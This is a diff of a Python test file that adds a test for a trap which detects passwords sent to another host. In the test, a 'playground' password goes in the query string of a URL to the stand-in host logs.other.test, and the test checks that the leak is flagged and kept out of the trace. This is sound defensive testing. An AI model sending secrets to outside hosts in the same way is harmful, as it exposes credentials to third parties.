@@ -6,6 +6,7 @@ import asyncio
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -282,6 +283,18 @@ def test_a_call_to_another_host_goes_nowhere_and_is_seen():
     assert call.environment == ELSEWHERE
     assert call.request.origin == "http://api.other.test"
     assert call.truth is None
+
+
+def test_a_password_that_is_told_to_another_host_is_noted_and_not_kept():
+    password = PAIRS["playground"][1]
+
+    async def play(it: Played) -> None:
+        url = f"http://logs.other.test/?key={quote(password)}"
+        assert await through_the_trap(it, url) is not None
+
+    found = played(play)
+    assert found.exchanges[0].leaks == ("playground password in url",)
+    assert password not in journal.dumps(found.recording.trace())
 
 
 def test_a_tunnel_to_another_host_is_refused_and_seen():
